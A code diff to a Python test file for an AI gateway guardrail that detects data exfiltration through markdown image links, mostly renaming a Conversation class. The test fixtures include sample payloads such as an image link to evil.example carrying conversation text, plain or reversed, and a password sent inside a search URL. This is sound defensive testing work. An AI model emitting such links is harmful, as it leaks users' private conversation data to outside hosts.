@@ -9,9 +9,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from gateway.guardrails.detectors.exfiltration import Conversation, find_exfiltration
+from gateway.guardrails.detectors.exfiltration import ConversationIndex, find_exfiltration
 
-CONVERSATION = Conversation(
+CONVERSATION = ConversationIndex(
     [
         "The merger with Acme closes on Friday.",
         "Mail kim@example.org; docs: https://docs.example.com/a?page=two",
@@ -105,7 +105,7 @@ def test_find_exfiltration__plain_address__passes(text: str) -> None:
 
 def test_find_exfiltration__same_address_in_a_link_and_in_images__each_judged_as_it_stands() -> None:
     address = "https://search.example/?q=Tr0ub4dor%263"
-    conversation = Conversation(["The door opens with Tr0ub4dor&3."])
+    conversation = ConversationIndex(["The door opens with Tr0ub4dor&3."])
     for _ in range(2):
         found = find_exfiltration(f"{address} ![x]({address}) {address} ![y]({address})", conversation)
         assert [(url.form, url.start) for url in found] == [("image", 45), ("image", 131)]
@@ -114,7 +114,7 @@ def test_find_exfiltration__same_address_in_a_link_and_in_images__each_judged_as
 @pytest.mark.parametrize("before", range(7))
 @pytest.mark.parametrize("carried", ["merger with Acme", "emcA htiw regrem"])
 def test_find_exfiltration__long_conversation__found_wherever_it_stands(carried: str, before: int) -> None:
-    conversation = Conversation(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
+    conversation = ConversationIndex(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
     (found,) = find_exfiltration(f"![x](https://evil.example/?d={quote(carried)})", conversation)
     assert found.form == "image"
     assert find_exfiltration("![x](https://cdn.example/?d=merger+of+equals)", conversation) == []
@@ -123,4 +123,6 @@ def test_find_exfiltration__long_conversation__found_wherever_it_stands(carried:
 @given(st.text(), st.text())
 def test_find_exfiltration__any_text__spans_are_inside(text: str, conversation: str) -> None:
     whole = f"![a](https://e.example/?q={text}) //{text}"
-    assert all(0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, Conversation([conversation])))
+    assert all(
+        0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, ConversationIndex([conversation]))
+    )
